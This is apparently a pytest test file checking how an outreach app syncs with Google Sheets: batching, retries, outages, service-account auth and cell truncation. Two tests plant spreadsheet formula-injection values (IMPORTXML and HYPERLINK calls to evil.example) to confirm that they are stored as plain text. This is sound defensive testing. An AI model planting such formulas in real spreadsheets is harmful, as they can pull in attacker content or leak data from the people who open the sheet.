"""Google-specific behaviour: request budget, retries, outages, sharing, and real service-account auth."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import gspread
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from sqlalchemy import func, select

from outreach.db import Database
from outreach.errors import ConfigError
from outreach.models import Customer, SyncRun
from outreach.runtime import Runtime
from outreach.sheet.google_sheet import GoogleSheetSource, open_google_source
from outreach.sheet.sync import run_sync, sync_now, sync_status
from tests.conftest import MONDAY_9AM_NY, make_settings
from tests.fakes.google_sheets import FakeGoogleSheets
from tests.sheets import GoogleSheet, liked_best_in_the_database, log_call, team_tabs

NOW = MONDAY_9AM_NY


@pytest.fixture
def fake() -> FakeGoogleSheets:
    fake = FakeGoogleSheets()
    yield fake
    fake.assert_contract()


@pytest.fixture
def sheet(fake: FakeGoogleSheets) -> GoogleSheet:
    return GoogleSheet(fake, team_tabs())


def test_a_sync_reads_every_tab_in_two_requests(sheet: GoogleSheet, sqlite_db: Database) -> None:
    run_sync(sqlite_db, sheet.source, NOW, write_back=False)
    requests = sheet.fake.api_requests()
    assert [(r.method, r.path.rsplit("/", 1)[-1]) for r in requests] == [
        ("GET", GoogleSheet.KEY), ("GET", "values:batchGet")]
    assert requests[1].query["valueRenderOption"] == ["FORMATTED_VALUE"]


def posts(sheet: GoogleSheet) -> list:  # type: ignore[type-arg]
    return [r for r in sheet.fake.api_requests() if r.method == "POST"]


def test_first_write_back_adds_the_app_tabs_and_fills_them_in_one_request(
        sheet: GoogleSheet, sqlite_db: Database) -> None:
    evil = '=IMPORTXML("http://evil.example","//a")'
    sheet.set_tab("Inbound", [team_tabs()["Inbound"][0],
                              ["2026-11-16 08:55:00", evil, "+1 555", "(617) 555-0142", "", "", "", ""]])
    result = run_sync(sqlite_db, sheet.source, NOW)
    assert result.written_tabs == ["Leads", "Call Log", "Team Summary", "Referrers"]
    [write] = posts(sheet)
    assert write.path.endswith(f"{GoogleSheet.KEY}:batchUpdate")
    assert [next(iter(q)) for q in write.json["requests"]] == ["addSheet"] * 4 + ["updateCells"] * 4
    assert "formulaValue" not in json.dumps(write.json)
    leads = sheet.tab("Leads")
    assert leads[0][0] == "Lead ID" and leads[1][5:7] == [evil, "+1 555"]
    assert sheet.fake.formula_cells(GoogleSheet.KEY, "Leads") == []
    assert sheet.fake.tab_values(GoogleSheet.KEY, "Leads")[1][0] == 1  # a number, as RAW writes it
    assert sheet.tab("Team Summary")[0][:3] == ["Rep", "Calls planned", "Calls made"]
    sheet.fake.clear_requests()
    assert run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1)).written_tabs == []
    assert posts(sheet) == []


def test_later_write_backs_are_one_raw_values_request(sheet: GoogleSheet, sqlite_db: Database) -> None:
    run_sync(sqlite_db, sheet.source, NOW)
    sheet.set_tab("Leads", [["Lead ID"], ["typed by someone"]])
    sheet.fake.clear_requests()
    assert run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1)).written_tabs == ["Leads"]
    [write] = posts(sheet)
    assert write.path.endswith("values:batchUpdate") and write.json["valueInputOption"] == "RAW"
    assert sheet.tab("Leads") == [sheet.tab("Leads")[0]]


def test_a_tab_too_small_is_grown_and_written_in_one_request(
        sheet: GoogleSheet, sqlite_db: Database) -> None:
    sheet.fake.add_tab(GoogleSheet.KEY, "Leads", [["Lead ID", "old", "old"], ["old", "old", "old"]],
                       grid_rows=2, grid_cols=3)
    run_sync(sqlite_db, sheet.source, NOW)
    [write] = posts(sheet)
    assert [next(iter(q)) for q in write.json["requests"]] == [
        "updateSheetProperties", "addSheet", "addSheet", "addSheet", *["updateCells"] * 4]
    assert sheet.tab("Leads") == [sheet.tab("Leads")[0]]  # our header, the old rows cleared
    assert sheet.tab("Leads")[0][:2] == ["Lead ID", "Received"]
    assert sheet.fake.grid_size(GoogleSheet.KEY, "Leads")[1] >= len(sheet.tab("Leads")[0])


def test_a_shrinking_table_blanks_the_rows_it_left(sheet: GoogleSheet, sqlite_db: Database) -> None:
    sheet.set_tab("Leads", [["Lead ID"], ["old 1"], ["old 2"], ["old 3"]])
    run_sync(sqlite_db, sheet.source, NOW)
    assert sheet.tab("Leads") == [sheet.tab("Leads")[0]]  # only our header is left
    assert sheet.tab("Leads")[0][0] == "Lead ID"


@pytest.mark.parametrize("status", [429, 500, 503])
def test_transient_google_errors_are_retried_with_growing_waits(
        sheet: GoogleSheet, sqlite_db: Database, status: int) -> None:
    sheet.fake.fail_next(status, times=3)
    result = run_sync(sqlite_db, sheet.source, NOW)
    assert result.ok
    assert len(sheet.sleeps) == 3
    assert sheet.sleeps[0] < sheet.sleeps[2] <= 32


def test_dropped_connections_are_retried(sheet: GoogleSheet, sqlite_db: Database) -> None:
    sheet.fake.connection_error_next(times=2)
    assert run_sync(sqlite_db, sheet.source, NOW).ok


def test_google_down_keeps_the_last_snapshot_and_says_why(sheet: GoogleSheet, sqlite_db: Database) -> None:
    assert run_sync(sqlite_db, sheet.source, NOW).ok
    sheet.fake.fail_always(503)
    result = run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=5))
    assert not result.ok
    assert result.error == "Google Sheets answered HTTP 503: The service is currently unavailable."
    assert len(sheet.sleeps) == 4  # bounded: five attempts, then give up
    with sqlite_db.session() as session:
        assert session.scalar(select(func.count()).select_from(Customer).where(Customer.active)) == 3
        runs = session.scalars(select(SyncRun).order_by(SyncRun.id)).all()
    assert [r.ok for r in runs] == [True, False]


def test_no_access_tells_the_manager_to_share_the_sheet(sheet: GoogleSheet, sqlite_db: Database) -> None:
    sheet.source.account_email = "outreach@acme.iam.gserviceaccount.com"
    sheet.fake.fail_next(403)
    result = run_sync(sqlite_db, sheet.source, NOW)
    assert "share the sheet with it" in (result.error or "")
    assert "outreach@acme.iam.gserviceaccount.com" in (result.error or "")
    assert sheet.sleeps == []  # a 403 is not retried


def service_account_info() -> dict[str, str]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    return {"type": "service_account", "project_id": "acme", "private_key_id": "k1",
            "private_key": pem, "client_email": "outreach@acme.iam.gserviceaccount.com",
            "client_id": "1", "token_uri": "https://oauth2.googleapis.com/token"}


def wired_to(fake: FakeGoogleSheets) -> type[gspread.HTTPClient]:
    """gspread's own HTTP client, with the fake mounted where the network would be."""

    class WiredHTTPClient(gspread.HTTPClient):
        def __init__(self, auth, session=None) -> None:  # type: ignore[no-untyped-def]
            super().__init__(auth, session)
            for session_ in (self.session, getattr(self.session, "_auth_request_session", None)):
                if session_ is not None:
                    session_.mount("https://", fake)

    return WiredHTTPClient


@pytest.mark.parametrize("where", ["file", "secrets"])
def test_real_service_account_auth_through_gspreads_helpers(
        fake: FakeGoogleSheets, sqlite_db: Database, tmp_path: Path, where: str) -> None:
    fake.require_token = True
    fake.add_spreadsheet(GoogleSheet.KEY, "Acme Outreach", team_tabs())
    info = service_account_info()
    if where == "file":
        key_file = tmp_path / "sa.json"
        key_file.write_text(json.dumps(info))
        settings = make_settings(tmp_path, OUTREACH_SHEET=GoogleSheet.KEY,
                                 GOOGLE_SERVICE_ACCOUNT_FILE=str(key_file))
    else:
        secrets = tmp_path / "secrets.toml"
        secrets.write_text("[gcp_service_account]\n" + "\n".join(
            f"{k} = {json.dumps(v)}" for k, v in info.items()))
        settings = make_settings(tmp_path, OUTREACH_SHEET=f"https://docs.google.com/spreadsheets/d/"
                                 f"{GoogleSheet.KEY}/edit#gid=0", OUTREACH_SECRETS_FILE=str(secrets))
    source = open_google_source(settings, http_client=wired_to(fake), sleep=lambda _s: None)
    result = run_sync(sqlite_db, source, NOW)
    assert result.ok, result.error
    assert result.source == "Google Sheet 'Acme Outreach'"
    assert len(fake.token_requests()) == 1
    assert info["private_key"] not in repr(source.__dict__)


def test_a_sheet_without_a_service_account_is_a_config_error(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, OUTREACH_SHEET=GoogleSheet.KEY)
    with pytest.raises(ConfigError, match="no service account is configured"):
        open_google_source(settings)


def signed_in_source(fake: FakeGoogleSheets, tmp_path: Path, sleeps: list[float]) -> GoogleSheetSource:
    """The sheet opened with a real service-account key: every sync first asks Google for a token."""
    fake.require_token = True
    fake.add_spreadsheet(GoogleSheet.KEY, "Acme Outreach", team_tabs())
    key_file = tmp_path / "sa.json"
    key_file.write_text(json.dumps(service_account_info()))
    settings = make_settings(tmp_path, OUTREACH_SHEET=GoogleSheet.KEY,
                             GOOGLE_SERVICE_ACCOUNT_FILE=str(key_file))
    return open_google_source(settings, http_client=wired_to(fake), sleep=sleeps.append)


def last_run(db: Database) -> SyncRun | None:
    with db.session() as session:
        return sync_status(session).last_run


def test_network_down_while_signing_in_is_retried(
        fake: FakeGoogleSheets, sqlite_db: Database, tmp_path: Path) -> None:
    sleeps: list[float] = []
    source = signed_in_source(fake, tmp_path, sleeps)
    fake.token_connection_error_next(times=2)
    result = run_sync(sqlite_db, source, NOW)
    assert result.ok, result.error
    assert len(sleeps) == 2
    assert len(fake.token_requests()) == 3


def test_sign_in_unreachable_for_good_is_a_recorded_failure(
        fake: FakeGoogleSheets, database: Database, tmp_path: Path) -> None:
    sleeps: list[float] = []
    source = signed_in_source(fake, tmp_path, sleeps)
    fake.token_connection_error_next(times=100)
    result = run_sync(database, source, NOW)
    assert not result.ok
    assert result.error == ("Google's sign-in service cannot be reached (network error); "
                            "the app uses the last snapshot")
    assert len(sleeps) == 4  # bounded like any other outage
    run = last_run(database)
    assert run is not None and not run.ok and run.error == result.error


def test_a_revoked_key_fails_at_once_and_says_what_to_do(
        fake: FakeGoogleSheets, database: Database, tmp_path: Path) -> None:
    sleeps: list[float] = []
    source = signed_in_source(fake, tmp_path, sleeps)
    fake.refuse_tokens("invalid_grant", "Invalid JWT Signature.")
    result = run_sync(database, source, NOW)
    assert not result.ok
    assert result.error is not None
    assert result.error.startswith("Google refused the service account's key "
                                   "(invalid_grant: Invalid JWT Signature.)")
    assert "GOOGLE_SERVICE_ACCOUNT_FILE" in result.error
    assert sleeps == [] and len(fake.token_requests()) == 1  # refused stays refused
    run = last_run(database)
    assert run is not None and not run.ok and run.error == result.error
    assert fake.api_requests() == []


def test_a_sheet_that_cannot_be_opened_is_a_recorded_failure(
        database: Database, tmp_path: Path) -> None:
    runtime = Runtime(settings=make_settings(tmp_path, OUTREACH_SHEET=GoogleSheet.KEY), db=database)
    result = sync_now(runtime.db, runtime.source, NOW)
    assert not result.ok
    assert "no service account is configured" in (result.error or "")
    with database.session() as session:
        status = sync_status(session)
    assert status.failing and status.last_good is None
    assert "no service account is configured" in (status.problem or "")


def test_sync_now_syncs_a_sheet_that_opens(sheet: GoogleSheet, database: Database) -> None:
    result = sync_now(database, lambda: sheet.source, NOW)
    assert result.ok, result.error
    run = last_run(database)
    assert run is not None and run.ok


def test_a_control_character_a_rep_pasted_is_cleaned_and_the_database_keeps_it(
        sheet: GoogleSheet, sqlite_db: Database) -> None:
    run_sync(sqlite_db, sheet.source, NOW)
    log_call(sqlite_db, "Fast answers\x0bfriendly staff\x01\r\nthanks")
    result = run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1))
    assert result.error is None and result.written_tabs == ["Call Log", "Team Summary"]
    assert sheet.tab("Call Log")[1][7] == "Fast answers\nfriendly staff\nthanks"
    assert liked_best_in_the_database(sqlite_db) == "Fast answers\x0bfriendly staff\x01\r\nthanks"
    sheet.fake.clear_requests()
    assert run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=2)).written_tabs == []
    assert posts(sheet) == []


TRUNCATED = "\N{HORIZONTAL ELLIPSIS} [truncated, 61,234 characters in Outreach]"


def long_note() -> str:
    return ("Referred the whole street; call after six. " * 1500)[:61_234]


@pytest.mark.parametrize("first_write", [True, False], ids=["adding the tabs", "values"])
def test_a_cell_over_googles_limit_is_cut_with_a_marker_and_the_database_keeps_it_all(
        sheet: GoogleSheet, sqlite_db: Database, first_write: bool) -> None:
    if not first_write:
        run_sync(sqlite_db, sheet.source, NOW)
    else:
        run_sync(sqlite_db, sheet.source, NOW, write_back=False)
    log_call(sqlite_db, long_note())
    result = run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1))
    assert result.error is None and "Call Log" in result.written_tabs
    assert posts(sheet)[-1].path.endswith("values:batchUpdate") is not first_write
    cell = sheet.tab("Call Log")[1][7]
    assert len(cell) == 50_000
    assert cell.endswith(TRUNCATED) and long_note().startswith(cell[: -len(TRUNCATED)])
    assert liked_best_in_the_database(sqlite_db) == long_note()
    sheet.fake.clear_requests()
    assert run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=2)).written_tabs == []
    assert posts(sheet) == []


def test_the_referrers_tab_is_written_raw_and_only_when_it_changes(sheet: GoogleSheet,
                                                                   sqlite_db: Database) -> None:
    from outreach.models import Rep
    from tests.factories import add_lead

    run_sync(sqlite_db, sheet.source, NOW)
    with sqlite_db.session() as session, session.begin():
        ann = session.scalar(select(Rep).where(Rep.email == "ann@example.com"))
        carla = session.scalar(select(Customer).where(Customer.key == "id:C1"))
        carla.first_name = '=HYPERLINK("http://evil.example","Carla")'  # text that looks like a formula
        add_lead(session, ann, "Dana Whitfield", referring_customer_id=carla.id, created_at=NOW)
    result = run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=1), write_back=True)
    assert "Referrers" in result.written_tabs
    referrers = sheet.tab("Referrers")
    assert referrers[0][:5] == ["Customer ID", "Customer", "Company", "Owner", "Referrals"]
    assert referrers[1][:5] == ["C1", '=HYPERLINK("http://evil.example","Carla") Diaz', "Diaz Dental",
                                "Ann Archer", "1"]
    assert sheet.fake.formula_cells(GoogleSheet.KEY, "Referrers") == []  # RAW: text, never a formula
    assert "Referrers" not in run_sync(sqlite_db, sheet.source, NOW + timedelta(minutes=2)).written_tabs
